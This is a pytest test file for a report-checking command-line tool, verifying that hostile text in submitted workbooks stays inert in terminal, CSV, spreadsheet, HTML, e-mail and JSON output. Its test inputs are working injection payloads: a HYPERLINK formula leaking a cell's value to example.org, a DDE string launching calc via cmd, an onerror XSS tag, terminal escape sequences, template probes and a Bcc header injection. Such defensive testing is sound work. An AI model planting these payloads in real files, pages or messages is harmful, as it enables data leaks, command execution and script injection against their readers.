"""Received text is data, wherever it comes out again.

A report whose names and entries look like formulas, markup, headers and terminal commands goes through every output.
1. A terminal gets no control character. 2. A spreadsheet gets no formula, neither from a CSV file nor from a workbook,
and no link to elsewhere. 3. A page gets no markup. 4. An e-mail gets no header. 5. A JSON document keeps every character.
"""

from __future__ import annotations

import csv
import email
import json
import re
import unicodedata
from email.policy import default
from io import BytesIO, StringIO
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from support.reports import Changes, report
from vbpqip.cli import main
from vbpqip.core.characters import as_read, is_ignored, visible

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
MARKUP = "<img src=x onerror=alert(1)>&lt;b&gt;\"'"
TERMINAL = "\x1b]0;owned\x07\x1b[31mred\u202e\u200b"
TEMPLATE = "{{ 7 * 7 }}{% raw %}${7*7}"
HEADER = "Mercy\nBcc: all@example.org"
HOSTILE = (FORMULA, DDE, MARKUP, TERMINAL, TEMPLATE, HEADER)

every_hostile = pytest.mark.parametrize(
    "words", HOSTILE, ids=["formula", "dde", "markup", "terminal", "template", "header"]
)


def hostile(words: str) -> bytes:
    """Return a report with words wherever words, and where numbers, can be typed."""
    changes: Changes = {
        ("facility", 0): words,
        ("mco", 0): words,
        ("attested_by", 0): words,
        ("quarter_2", 0): words,
        ("numerator_1", 4): words,
        ("selected", 1): words,
        ("contract_mco", 0): words,
        ("contract_arrangement", 0): words,
        ("contract_status", 0): words,
    }
    return report(changes)


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    return tmp_path


def printed(*words: str) -> str:
    done = CliRunner().invoke(main, list(words), prog_name="vbpqip")
    assert done.exit_code in {0, 1}, done.output
    return str(done.stdout)


def obeyed(text: str) -> list[str]:
    """Return the characters that a terminal would obey, colours of our own aside."""
    own = re.sub(r"\x1b\[\d+m", "", text)
    return [each for each in own if unicodedata.category(each) in {"Cc", "Cf"} and each != "\n"]


@every_hostile
def test_1_a_terminal_obeys_nothing(folder: Path, words: str) -> None:
    (folder / "report.xlsx").write_bytes(hostile(words))

    assert obeyed(printed("check", "report.xlsx")) == []


@every_hostile
def test_1_a_terminal_obeys_nothing_of_two_reports(folder: Path, words: str) -> None:
    (folder / "old.xlsx").write_bytes(hostile(words))
    (folder / "new.xlsx").write_bytes(report({("facility", 0): words, ("mco", 0): words}))

    assert obeyed(printed("compare", "old.xlsx", "new.xlsx")) == []


@every_hostile
def test_1_a_terminal_obeys_nothing_of_a_measure_s_cells(folder: Path, words: str) -> None:
    (folder / "report.xlsx").write_bytes(hostile(words))

    assert obeyed(printed("explain", "report.xlsx", "--measure", "clabsi")) == []


@every_hostile
def test_2_a_comparison_has_no_formula_and_leads_nowhere(folder: Path, words: str) -> None:
    (folder / "old.xlsx").write_bytes(hostile(words))
    (folder / "new.xlsx").write_bytes(report({("facility", 0): words, ("mco", 0): words}))
    printed("compare", "old.xlsx", "new.xlsx", "--format", "xlsx", "--out", "compared.xlsx")

    book = openpyxl.load_workbook("compared.xlsx")

    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    assert not any(cell.hyperlink for cell in cells)


@every_hostile
def test_2_a_csv_file_has_no_formula(folder: Path, words: str) -> None:
    (folder / "report.xlsx").write_bytes(hostile(words))

    fields = [
        field for row in csv.reader(StringIO(printed("check", "report.xlsx", "--format", "csv"))) for field in row
    ]

    assert [field for field in fields if field.startswith(("=", "@", "+", "\t"))] == []


@every_hostile
def test_2_feedback_has_no_formula_and_leads_nowhere_else(folder: Path, words: str) -> None:
    (folder / "report.xlsx").write_bytes(hostile(words))
    printed("check", "report.xlsx", "--feedback", "back")

    book = openpyxl.load_workbook(BytesIO((folder / "back" / "report.feedback.xlsx").read_bytes()))

    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
    assert [cell.hyperlink.target for cell in cells if cell.hyperlink and cell.hyperlink.target] == []


@every_hostile
def test_3_a_page_has_no_markup_but_its_own(folder: Path, words: str) -> None:
    """The same tags as a harmless report with the same issues has, invisible characters among them."""
    invisible = "".join(filter(is_ignored, words))
    (folder / "report.xlsx").write_bytes(hostile(words))
    (folder / "harmless.xlsx").write_bytes(hostile(f"Mercy{invisible}"))
    printed("check", "report.xlsx", "harmless.xlsx", "--feedback", "back")

    tags, expected = (
        [re.sub(r'="[^"]*"', "", tag) for tag in re.findall(r"<[^>]*>", (folder / "back" / name).read_text("utf-8"))]
        for name in ("report.feedback.html", "harmless.feedback.html")
    )

    assert tags == expected


@every_hostile
def test_3_a_page_calculates_nothing_of_it(folder: Path, words: str) -> None:
    (folder / "report.xlsx").write_bytes(hostile(words))
    printed("check", "report.xlsx", "--feedback", "back")

    assert (
        "49"
        not in (folder / "back" / "report.feedback.html").read_text("utf-8").split("</style>")[1].split("SHA-256")[0]
    )


@every_hostile
def test_4_an_e_mail_has_its_own_headers(folder: Path, words: str) -> None:
    (folder / "report.xlsx").write_bytes(hostile(words))
    printed("check", "report.xlsx", "--feedback", "back")

    message = email.message_from_bytes((folder / "back" / "report.feedback.eml").read_bytes(), policy=default)

    assert set(message.keys()) == {"Subject", "X-Unsent", "MIME-Version", "Content-Type"}
    assert [part.get_filename() for part in message.iter_attachments()] == ["report.feedback.xlsx"]


@every_hostile
def test_5_a_document_keeps_what_was_received(folder: Path, words: str) -> None:
    """A name is read without what nobody sees; what is said of it names that too."""
    (folder / "report.xlsx").write_bytes(hostile(words))

    review = json.loads(printed("check", "report.xlsx", "--format", "json"))["reviews"][0]

    assert review["facility"].split() == as_read(words).split()
    assert any(each["found"].split() == visible(words).split() for each in review["findings"] if each["cell"] == "A5")
